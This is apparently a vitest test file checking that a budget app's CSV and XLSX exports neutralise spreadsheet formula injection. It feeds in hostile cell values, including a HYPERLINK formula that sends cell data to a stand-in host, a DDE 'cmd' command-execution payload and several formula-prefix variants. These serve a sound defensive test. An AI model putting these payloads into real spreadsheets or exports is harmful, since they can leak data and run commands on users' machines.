import ExcelJS from 'exceljs';
import { expect, test } from 'vitest';
import { cents } from '../../../core/money.ts';
import { buildBuilding, buildLines, buildScenario } from '../../../test/factories/factories.ts';
import { useTestApp } from '../../../test/support/test-app.ts';

const app = useTestApp();

/** Texts that spreadsheets treat as formulas, each in a different column. */
const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"click")';

async function hostileBudget(): Promise<number> {
  const scenario = await buildScenario(app.cx, { type: 'proposed', fiscalYear: 2026 });
  await buildLines(app.cx, scenario, [
    {
      account_description: FORMULA,
      name: "+cmd|' /C calc'!A0",
      account_line: '-2+3',
      dese_categories: '@SUM(A1:A9)',
      notes: '\t=1+1',
      fund: "'=already guarded",
      dese_code: '＝1+1',
      building_id: await buildBuilding(app.cx, { name: '=1+1' }),
      amount_cents: cents(-123_450),
    },
  ]);
  return scenario.id;
}

test('no text of an export becomes a formula, in either file format; negative amounts stay amounts', async () => {
  const id = await hostileBudget();
  const file = (format: string) =>
    app.send('ADMIN', 'GET', `/api/line-items/export?scenarioId=${id}&isOperating=false&format=${format}`);

  const csv = await (await file('csv')).text();
  const cells = csv.split(/\r\n/).flatMap((line) => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)]);
  const texts = cells.map((cell) => cell[1] ?? cell[2] ?? '');
  expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual(['-1234.50']);
  for (const text of [
    `'${FORMULA.replaceAll('"', '""')}`,
    "'-2+3",
    "'@SUM(A1:A9)",
    "''=already guarded",
    "'=1+1",
    "'＝1+1",
  ]) {
    expect(texts).toContain(text);
  }

  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await (await file('xlsx')).arrayBuffer());
  const [sheet] = workbook.worksheets;
  const formulas: string[] = [];
  sheet?.eachRow((row, number) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas.push(`row ${number}: ${cell.formula}`);
      if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t]/);
    }),
  );
  // The only formulas are the sums that the export adds below the only line.
  expect(formulas.every((formula) => /^row 3: SUM\([A-Z]+2:[A-Z]+2\)$/.test(formula))).toBe(true);
  expect(formulas.length).toBeGreaterThan(0);
});
